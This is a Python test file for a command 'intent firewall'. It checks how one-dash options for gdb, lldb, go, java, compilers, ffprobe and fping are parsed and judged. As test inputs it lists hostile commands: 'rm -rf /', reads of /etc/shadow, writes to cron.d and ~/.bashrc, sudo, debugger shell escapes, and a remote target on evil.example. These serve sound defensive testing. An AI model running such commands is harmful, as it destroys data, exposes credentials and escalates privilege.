"""Long options with one dash are one option: ``gdb -batch`` is not ``-b -a -t -c h``. The
program gdb or lldb debugs is judged as run, and their commands are code judged by a table:
looking and stepping pass, escapes and attaching stay findings (``debuggers.py``). Compilers
carry values joined to listed options; java, go, ffprobe read one-dash words."""

from __future__ import annotations

import pytest

from aegis.intent_firewall import Decision
from aegis.intent_firewall.catalogue import catalogue
from aegis.intent_firewall.options import parse_options
from tests.aegis.firewall.grammar_judge import verdict


def test_a_one_dash_long_option_is_one_option() -> None:
    gdb = catalogue().lookup("gdb")
    assert gdb is not None
    assert gdb.single_dash
    parsed = parse_options(gdb, [("-batch", "-batch", False), ("x", "x", False)])
    assert parsed.flags == {"-batch"}
    assert [a[0] for a in parsed.operands] == ["x"]


def test_go_flags_take_one_dash_and_an_attached_value() -> None:
    go = catalogue().lookup("go")
    assert go is not None
    assert go.single_dash
    assert verdict("go vet -vettool=./bin/analyzer ./...")[0] is Decision.ALLOW
    assert "unmodelled-option" in verdict("go vet -vettool=/tmp/analyzer ./...")[1]
    assert "interpreter-code" in verdict("go build -toolexec=/tmp/wrap ./...")[1]
    assert "unknown-network-destination" in verdict("go install evil.example/tool@latest")[1]


def test_programs_listed_as_one_dash_keep_their_entries() -> None:
    listed = catalogue()
    for name in ("ffprobe", "nmap", "go", "java", "gdb"):
        program = listed.lookup(name)
        assert program is not None, name
        assert program.single_dash, name
    ffmpeg = listed.lookup("ffmpeg")  # one-dash when catalogued; the list adds no program
    assert ffmpeg is None or ffmpeg.single_dash
    go = listed.lookup("go")  # a refinement keeps the subcommands of its entry
    assert go is not None
    assert go.subcommands


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("java -Xmx2g -ea -cp build/classes Main", "allow"),
        ("java -verbose:gc -jar build/app.jar", "allow"),
        ("java -javaagent:/tmp/agent.jar -jar build/app.jar", "review"),
        ("java -XX:HeapDumpPath=/etc/cron.d/x -jar build/app.jar", "block"),
        ("ffprobe -v error -show_entries format=duration -of csv=p=0 media/in.mp4", "allow"),
        ("ffprobe -hide_banner /etc/shadow", "block"),
        ("fping -c 3 -t 500 github.com", "allow"),
        ("fping -c 3 github.com evil.example", "review"),
        ("fping -g 10.0.0.0/24", "review"),
    ],
)
def test_one_dash_words_of_other_programs(line: str, decision: str) -> None:
    assert verdict(line)[0].value == decision


@pytest.mark.parametrize(
    ("line", "decision"),
    [
        ("gcc -Wall -Werror -MMD -MFbuild/deps.d -Iinclude -c src/a.c -o build/a.o", "allow"),
        ("clang -Wall -Wextra -isystem/usr/include -fPIC -O2 -o build/app src/a.c", "allow"),
        ("gcc -Wall -MF/etc/cron.d/job -c src/a.c", "block"),
        ("gcc -o/etc/cron.d/job src/a.c", "block"),
        ("clang -fplugin=/tmp/p.so src/a.c", "review"),
    ],
)
def test_compiler_options_are_words_with_joined_values(line: str, decision: str) -> None:
    assert verdict(line)[0].value == decision


@pytest.mark.parametrize(
    "line",
    [
        "gdb -batch -ex run -ex bt --args ./build/app --selftest",
        "gdb --batch -ex run -ex bt --args ./build/app --selftest",
        "gdb -batch --eval-command=run --eval-command=bt ./build/app",
        "gdb -q -batch -ex 'thread apply all bt' --args ./build/app",
        "gdb -batch -ex 'break main' -ex run -ex 'print argc' -ex continue ./build/app",
        "gdb -batch -ex 'set pagination off' -ex run -ex 'bt full' ./build/app",
        "gdb -batch -ex run -ex 'x/8xw $sp' -ex 'p/x $rip' -ex 'info frame' ./build/app",
        "gdb -batch -ex 'print sizeof(struct node)' -ex 'echo done(1)\\n' ./build/app",
        "gdb -batch -ex 'print (char)c' -ex 'p (int)argc' -ex 'print \"f(x)\"' ./build/app",
        "gdb -batch -ex 'break parse.c:42 if (n > 3)' -ex run ./build/app",
        "gdb -batch -ex 'run --selftest < tests/input.txt' ./build/app",
        "gdb -nx -batch -ex bt ./build/app core",
        "gdb ./build/app core",
        "lldb --batch -o run -o bt -- ./build/app --selftest",
        "lldb -batch -o 'breakpoint set -n main' -o run -o 'frame variable' ./build/app",
        "echo bt | gdb -batch ./build/app",
        "rust-gdb -batch -ex run -ex bt ./target/debug/app",
        "rust-lldb -b -o run -o 'bt all' ./target/debug/app",
        "gdb-multiarch -batch -ex 'info files' ./build/app.elf",
    ],
)
def test_debugging_a_workspace_program_is_allowed(line: str) -> None:
    decision, _rules, reasons = verdict(line)
    assert decision is Decision.ALLOW, f"{line}: {reasons}"


@pytest.mark.parametrize(
    "command",
    [
        "shell id",
        "sh id",
        "!id",
        "| id",
        "python import os",
        "py import os",
        "pipe bt | sh",
        "source /tmp/x.gdb",
        'call system("id")',
        'print (int)system("id")',
        'print $_shell("id")',
        'break main if system("id")',
        "dump memory ./m.bin 0 100",
        "restore ./p.bin binary 0",
        "attach 4242",
        "target remote evil.example:1234",
        'compile code system("id")',
        "define hook-stop",
        "alias x = shell",
        "set args $(id)",
        "set exec-wrapper sh -c",
        "thread apply all shell id",
        "frame apply all python print(1)",
        "some-unknown-command",
    ],
)
def test_a_debugger_command_that_runs_code_is_a_finding(command: str) -> None:
    line = f"gdb -batch -ex run -ex '{command}' ./build/app"
    decision, rules, _ = verdict(line)
    assert decision is not Decision.ALLOW
    assert "interpreter-code" in rules


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("gdb -batch -p 1 -ex bt", "interpreter-code"),
        ("gdb -batch -pid=1 -ex bt", "interpreter-code"),
        ("gdb ./build/app 4242", "interpreter-code"),
        ("lldb -b -p 1 -o bt", "interpreter-code"),
        ("gdb -batch -x /tmp/cmds.gdb ./build/app", "interpreter-code"),
        ("gdb -batch -frobnicate ./build/app", "wrapper-option"),
        ("gdb -batch -ex run --args $PROG", "dynamic-program"),
        ("cat cmds | gdb ./build/app", "pipe-into-interpreter"),
        ("gdb", "interactive-shell"),
        ("lldb -b -o 'platform shell id' ./build/app", "interpreter-code"),
        ("rust-lldb -b -o 'script print(1)' ./target/debug/app", "interpreter-code"),
        ("rust-gdb -batch -ex 'shell id' ./target/debug/app", "interpreter-code"),
        ("lldb -b -o 'script print(1)' ./build/app", "interpreter-code"),
        ("lldb -b -o 'memory read -o /tmp/m 0x0' ./build/app", "interpreter-code"),
    ],
)
def test_attaching_command_files_and_unknown_options_stay_findings(line: str, rule: str) -> None:
    decision, rules, _ = verdict(line)
    assert decision is not Decision.ALLOW
    assert rule in rules


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("gdb -batch -ex run --args rm -rf /", "recursive-delete-system"),
        ("gdb -batch -ex 'run; cat /etc/shadow' ./build/app", "credential-file-read"),
        ("gdb -batch -ex 'run > /etc/passwd' ./build/app", "credential-file-write"),
        ("gdb -batch -ex 'set logging file ~/.bashrc' ./build/app", "persistence-write"),
        ("lldb -b -o run -- sudo ./build/app", "privilege-escalation"),
    ],
)
def test_the_debugged_program_and_run_arguments_are_judged_as_run(line: str, rule: str) -> None:
    decision, rules, _ = verdict(line)
    assert decision is Decision.BLOCK
    assert rule in rules
